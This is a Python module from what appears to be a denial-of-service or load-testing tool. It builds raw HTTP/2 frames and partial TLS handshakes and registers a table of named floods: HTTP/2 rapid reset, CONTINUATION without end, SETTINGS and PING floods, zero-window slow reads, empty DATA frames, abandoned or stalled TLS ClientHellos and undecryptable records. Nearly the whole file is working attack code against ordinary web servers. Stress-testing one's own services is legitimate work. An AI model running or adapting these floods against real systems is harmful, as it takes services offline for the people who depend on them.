"""Attacks where TLS is spoken: by the handshake, and by HTTP/2, which browsers speak within it."""

import struct
from collections.abc import Callable, Iterator
from typing import Final

import msgspec

from attacks.aim import NAME, Aim, Attack, Count
from attacks.lines import Crowd, Script, again, lines
from attacks.storms import CROWD, client_hello

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4
MANY: Final = 200
"""Streams in a piece."""


def frame(kind: int, data: bytes = b"", stream: int = 0, flags: int = 0) -> bytes:
    return struct.pack(">I", len(data))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + data


def literal(index: int, value: str) -> bytes:
    """A header whose name everybody knows, and that nobody has to remember."""
    return bytes([index, len(value)]) + value.encode()


def fields(path: str, method: bytes = b"\x82") -> bytes:
    """A request by https."""
    return method + b"\x87" + literal(4, path) + literal(1, NAME)


def streams(each: Callable[[int], bytes]) -> Callable[[], Iterator[bytes]]:
    """Every stream has a number of its own."""

    def said() -> Iterator[bytes]:
        for first in range(1, 2**31 - 1, 2 * MANY):
            yield b"".join(map(each, range(first, first + 2 * MANY, 2)))

    return said


def spoken(then: bytes, endless: Callable[[], Iterator[bytes]] | None, unit: int, reads: bool = True) -> Script:
    return Script(PREFACE + frame(SETTINGS) + then, endless=endless, unit=unit, protocols=("h2",), reads=reads)


def flood(each: Callable[[int], bytes]) -> Script:
    return spoken(b"", streams(each), len(each(1)))


def same(piece: bytes, then: bytes = b"", reads: bool = True) -> Script:
    return spoken(then, again(piece), len(piece), reads)


def asked(number: int, path: str = "/api/health") -> bytes:
    return frame(HEADERS, fields(path), number, END_STREAM | END_HEADERS)


def posted(number: int) -> bytes:
    return frame(HEADERS, fields("/api/records/verify", b"\x83"), number, END_HEADERS)


def unread(aim: Aim) -> Script:
    """No window is given for the answers."""
    none = frame(SETTINGS, struct.pack(">HI", 4, 0))
    return spoken(none, streams(lambda number: asked(number, aim.largest)), len(asked(1, aim.largest)))


def http2(what: str, script: Callable[[Aim], Script], unit: str, many: int = 8) -> Attack:
    return Attack(f"HTTP/2: {what}", lines(script, many), unit, "http2")


def half_hello(aim: Aim, count: Count) -> None:
    """Below TLS, where only the beginning of a handshake comes."""
    bare = msgspec.structs.replace(aim, tls=False)
    Crowd(bare, count, Script(client_hello()[:60], pause=2.0)).run(3_000)


def hellos(aim: Aim, count: Count) -> None:
    """The server works out its answer, the client is gone before it has to do anything."""
    bare = msgspec.structs.replace(aim, tls=False)
    Crowd(bare, count, Script(client_hello(), b"\x16", leaves=True)).run(CROWD)


def records(aim: Aim, count: Count) -> None:
    bare = msgspec.structs.replace(aim, tls=False)
    Crowd(bare, count, Script(client_hello(), endless=again(b"\x17\x03\x03\x00\x01x"), unit=6)).run(CROWD)


ATTACKS: Final[dict[str, Attack]] = {
    "tls-hellos": Attack("handshakes of TLS, begun and left", hellos, "connections", "tls"),
    "tls-slow": Attack("handshakes of TLS that never go on", half_hello, "connections", "tls"),
    "tls-records": Attack("records that cannot be decrypted", records, "records", "tls"),
    "tls-handshakes": Attack(
        "whole handshakes of TLS, and gone", lines(lambda aim: Script(b"G", leaves=True), CROWD), "connections", "tls"
    ),
    "http2-reset": http2(
        "requests that are taken back at once",
        lambda aim: flood(lambda number: asked(number) + frame(RESET, bytes(4), number)),
        "requests",
    ),
    "http2-reset-live": http2(
        "bodies that are begun and taken back",
        lambda aim: flood(lambda number: posted(number) + frame(DATA, b"{}", number) + frame(RESET, bytes(4), number)),
        "requests",
    ),
    "http2-requests": http2("requests", lambda aim: flood(asked), "requests"),
    "http2-unread": http2("the largest file, and no window for it", unread, "requests"),
    "http2-settings": http2("settings", lambda aim: same(frame(SETTINGS)), "frames"),
    "http2-settings-unread": http2(
        "settings, answers never read", lambda aim: same(frame(SETTINGS), reads=False), "frames"
    ),
    "http2-ping": http2("pings", lambda aim: same(frame(PING, bytes(8))), "frames"),
    "http2-ping-unread": http2(
        "pings, answers never read", lambda aim: same(frame(PING, bytes(8)), reads=False), "frames"
    ),
    "http2-continuation": http2(
        "headers continued without end",
        lambda aim: same(frame(CONTINUATION, literal(4, "/x") * 20, 1), frame(HEADERS, fields("/"), 1)),
        "frames",
    ),
    "http2-continuation-empty": http2(
        "headers continued by nothing, without end",
        lambda aim: same(frame(CONTINUATION, b"", 1), frame(HEADERS, fields("/"), 1)),
        "frames",
    ),
    "http2-data-empty": http2(
        "a body of nothing, without end", lambda aim: same(frame(DATA, b"", 1), posted(1)), "frames"
    ),
    "http2-window": http2("windows a byte wider", lambda aim: same(frame(WINDOW, struct.pack(">I", 1), 0)), "frames"),
    "http2-priority": http2(
        "priorities of what is not there",
        lambda aim: flood(lambda number: frame(PRIORITY, bytes(5), number)),
        "frames",
    ),
    "http2-unknown": http2("frames of no known kind", lambda aim: same(frame(200, bytes(8), 0)), "frames"),
}
